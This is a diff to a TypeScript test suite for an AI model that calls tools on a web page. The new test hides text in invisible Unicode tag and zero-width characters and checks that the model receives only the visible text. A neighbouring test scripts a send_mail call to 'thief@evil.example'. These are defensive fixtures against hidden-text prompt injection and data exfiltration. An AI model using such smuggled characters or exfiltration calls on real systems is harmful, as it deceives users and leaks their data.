@@ -86,6 +86,24 @@ describe("a function of the page", () => {
     expect(turns.model.asked).toHaveLength(2);
   });
 
+  it("tells the model nothing that no reader sees", async () => {
+    const hidden = (text: string) => Array.from(text, (each) => `${each}\u{e0041}\u200b`).join("");
+    for (const result of [
+      output({ [hidden("note")]: hidden("Zip") }),
+      { state: "output-error", errorText: hidden("Zip") },
+    ]) {
+      turns.model.steps.push(calls(["cartTotal", {}]), says("Noted."));
+      const visitor = await turns.openSession();
+      turns.conversation += "x";
+      await readChunks(await answer(visitor, callOf(await ask(visitor)), result));
+    }
+    const told = turns.model.asked.flatMap(({ prompt }) => prompt.filter(({ role }) => role === "tool"));
+    expect(told).toMatchObject([
+      { content: [{ output: { value: { data: { note: "Zip" } } } }] },
+      { content: [{ output: { value: { message: "The page could not do it: Zip" } } }] },
+    ]);
+  });
+
   it("plants nothing: a value it brings is asked about before it is sent on", async () => {
     turns.model.steps.push(calls(["cartTotal", {}]), calls(["send_mail", { to: "thief@evil.example" }]));
     const visitor = await turns.openSession();
